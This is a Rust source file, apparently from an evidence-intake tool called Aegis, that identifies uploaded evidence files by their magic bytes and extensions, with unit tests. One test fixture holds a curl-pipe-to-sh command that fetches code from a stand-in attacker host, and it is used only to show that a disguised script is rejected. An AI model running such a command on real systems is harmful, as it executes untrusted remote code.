//! The evidence types Aegis accepts, each recognised by its first bytes (its "magic"), so that a declared
//! type is a fact about the file and not a claim: a script renamed `.png` is not a PNG.
//!
//! Binary formats are recognised by signature; text formats (plain text and logs, CSV, JSON, XML) by being
//! UTF-8 without NUL or other binary control bytes in the first [`SNIFF_BYTES`], and JSON and XML by their
//! first significant character.

/// How many leading bytes are checked.
pub const SNIFF_BYTES: usize = 8 * 1024;

/// A type on the allow-list.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum EvidenceKind {
    Png,
    Jpeg,
    Gif,
    Pdf,
    Pcap,
    Pcapng,
    Zip,
    Evtx,
    Json,
    Text,
    Csv,
    Xml,
}

impl EvidenceKind {
    pub const ALL: [Self; 12] = [
        Self::Png,
        Self::Jpeg,
        Self::Gif,
        Self::Pdf,
        Self::Pcap,
        Self::Pcapng,
        Self::Zip,
        Self::Evtx,
        Self::Json,
        Self::Text,
        Self::Csv,
        Self::Xml,
    ];

    /// The canonical content type, stored in the event and sent on download.
    pub const fn content_type(self) -> &'static str {
        match self {
            Self::Png => "image/png",
            Self::Jpeg => "image/jpeg",
            Self::Gif => "image/gif",
            Self::Pdf => "application/pdf",
            Self::Pcap => "application/vnd.tcpdump.pcap",
            Self::Pcapng => "application/x-pcapng",
            Self::Zip => "application/zip",
            Self::Evtx => "application/x-ms-evtx",
            Self::Json => "application/json",
            Self::Text => "text/plain",
            Self::Csv => "text/csv",
            Self::Xml => "application/xml",
        }
    }

    /// Other spellings of the content type that clients send.
    const fn aliases(self) -> &'static [&'static str] {
        match self {
            Self::Jpeg => &["image/jpg", "image/pjpeg"],
            Self::Pcap => &["application/pcap", "application/x-pcap", "application/cap"],
            Self::Pcapng => &["application/pcapng", "application/vnd.tcpdump.pcapng"],
            Self::Zip => &["application/x-zip-compressed"],
            Self::Evtx => &["application/evtx"],
            Self::Text => &["text/x-log"],
            Self::Xml => &["text/xml"],
            Self::Png | Self::Gif | Self::Pdf | Self::Json | Self::Csv => &[],
        }
    }

    /// The file name extensions that belong to this type. A file named with another type's extension is
    /// refused even when its bytes match the declared type (`shell.png` declared as text is not evidence of
    /// anything but confusion).
    pub const fn extensions(self) -> &'static [&'static str] {
        match self {
            Self::Png => &["png"],
            Self::Jpeg => &["jpg", "jpeg"],
            Self::Gif => &["gif"],
            Self::Pdf => &["pdf"],
            Self::Pcap => &["pcap", "cap"],
            Self::Pcapng => &["pcapng"],
            Self::Zip => &["zip"],
            Self::Evtx => &["evtx"],
            Self::Json => &["json", "ndjson", "jsonl"],
            Self::Text => &["txt", "log", "out", "text"],
            Self::Csv => &["csv"],
            Self::Xml => &["xml"],
        }
    }

    /// The type named by a content type (parameters such as `; charset=utf-8` ignored, case-insensitive).
    pub fn from_content_type(content_type: &str) -> Option<Self> {
        let essence = content_type
            .split(';')
            .next()
            .unwrap_or_default()
            .trim()
            .to_ascii_lowercase();
        Self::ALL.into_iter().find(|kind| {
            kind.content_type() == essence || kind.aliases().contains(&essence.as_str())
        })
    }

    /// Whether `file_name`'s extension fits this type: one of its own, or none of any other type's.
    pub fn fits_file_name(self, file_name: &str) -> bool {
        let Some((_, extension)) = file_name.rsplit_once('.') else {
            return true;
        };
        let extension = extension.to_ascii_lowercase();
        if self.extensions().contains(&extension.as_str()) {
            return true;
        }
        !Self::ALL
            .iter()
            .any(|kind| kind.extensions().contains(&extension.as_str()))
    }

    /// Whether `head` (the first bytes of the file, up to [`SNIFF_BYTES`]; all of it when shorter) is the
    /// beginning of a file of this type.
    pub fn matches(self, head: &[u8], whole_file: bool) -> bool {
        match self {
            Self::Png => head.starts_with(b"\x89PNG\r\n\x1a\n"),
            Self::Jpeg => head.starts_with(&[0xFF, 0xD8, 0xFF]),
            Self::Gif => head.starts_with(b"GIF87a") || head.starts_with(b"GIF89a"),
            Self::Pdf => head.starts_with(b"%PDF-"),
            Self::Pcap => [
                [0xD4, 0xC3, 0xB2, 0xA1],
                [0xA1, 0xB2, 0xC3, 0xD4],
                [0x4D, 0x3C, 0xB2, 0xA1],
                [0xA1, 0xB2, 0x3C, 0x4D],
            ]
            .iter()
            .any(|magic| head.starts_with(magic)),
            Self::Pcapng => head.starts_with(&[0x0A, 0x0D, 0x0D, 0x0A]),
            Self::Zip => head.starts_with(b"PK\x03\x04") || head.starts_with(b"PK\x05\x06"),
            Self::Evtx => head.starts_with(b"ElfFile\0"),
            Self::Text | Self::Csv => is_text(head, whole_file),
            Self::Json => {
                is_text(head, whole_file) && matches!(first_significant(head), Some(b'{' | b'['))
            }
            Self::Xml => is_text(head, whole_file) && first_significant(head) == Some(b'<'),
        }
    }
}

/// UTF-8 (a multi-byte character cut at the end of a partial head is fine) without NUL or the control bytes
/// that only binary files contain; tabs, line breaks, form feeds and escape (colour codes in logs) are text.
fn is_text(head: &[u8], whole_file: bool) -> bool {
    let valid = match std::str::from_utf8(head) {
        Ok(_) => true,
        Err(error) => !whole_file && error.error_len().is_none(),
    };
    valid
        && head
            .iter()
            .all(|&byte| byte >= 0x20 || matches!(byte, b'\t' | b'\n' | b'\r' | 0x0C | 0x1B))
}

/// The first byte that is not whitespace, after a UTF-8 byte-order mark.
fn first_significant(head: &[u8]) -> Option<u8> {
    let head = head.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(head);
    head.iter()
        .copied()
        .find(|byte| !byte.is_ascii_whitespace())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_binary_type_is_recognised_by_its_signature() {
        let cases: [(EvidenceKind, &[u8]); 8] = [
            (EvidenceKind::Png, b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"),
            (EvidenceKind::Jpeg, b"\xFF\xD8\xFF\xE0\0\x10JFIF"),
            (EvidenceKind::Gif, b"GIF89a\x01\0\x01\0"),
            (EvidenceKind::Pdf, b"%PDF-1.7\n"),
            (EvidenceKind::Pcap, b"\xD4\xC3\xB2\xA1\x02\0\x04\0"),
            (EvidenceKind::Pcapng, b"\x0A\x0D\x0D\x0A\x1C\0\0\0"),
            (EvidenceKind::Zip, b"PK\x03\x04\x14\0"),
            (EvidenceKind::Evtx, b"ElfFile\0\0\0"),
        ];
        for (kind, head) in cases {
            assert!(kind.matches(head, true), "{kind:?}");
            // Text types judge characters, and a PDF header is ASCII: only binary types must not overlap.
            let binary = EvidenceKind::ALL.into_iter().take(8);
            for other in binary.filter(|other| *other != kind) {
                assert!(!other.matches(head, true), "{kind:?} taken for {other:?}");
            }
        }
    }

    #[test]
    fn a_script_renamed_png_is_not_a_png() {
        let script = b"#!/bin/sh\ncurl http://evil.example/x | sh\n";
        assert!(!EvidenceKind::Png.matches(script, true));
        assert!(EvidenceKind::Text.matches(script, true));
        assert!(!EvidenceKind::Text.fits_file_name("shell.png"));
        assert!(EvidenceKind::Text.fits_file_name("output.log"));
        assert!(EvidenceKind::Text.fits_file_name("README"));
        assert!(EvidenceKind::Text.fits_file_name("lsass.dmp.txt"));
    }

    #[test]
    fn text_types_need_text_and_their_first_character() {
        assert!(EvidenceKind::Json.matches(b"\xEF\xBB\xBF  {\"alert\": 1}", true));
        assert!(!EvidenceKind::Json.matches(b"alert,1", true));
        assert!(EvidenceKind::Xml.matches(b"<?xml version=\"1.0\"?><Events/>", true));
        assert!(EvidenceKind::Csv.matches(b"time,host\n12:00,ws-01\n", true));
        assert!(!EvidenceKind::Text.matches(b"MZ\x90\0\x03\0", true));
        // A head cut inside a multi-byte character is still text; a whole file ending so is not.
        assert!(EvidenceKind::Text.matches("h\u{e9}".as_bytes().split_at(2).0, false));
        assert!(!EvidenceKind::Text.matches("h\u{e9}".as_bytes().split_at(2).0, true));
    }

    #[test]
    fn content_types_are_read_leniently() {
        assert_eq!(
            EvidenceKind::from_content_type("Text/Plain; charset=utf-8"),
            Some(EvidenceKind::Text)
        );
        assert_eq!(
            EvidenceKind::from_content_type("text/xml"),
            Some(EvidenceKind::Xml)
        );
        assert_eq!(EvidenceKind::from_content_type("application/x-sh"), None);
    }
}
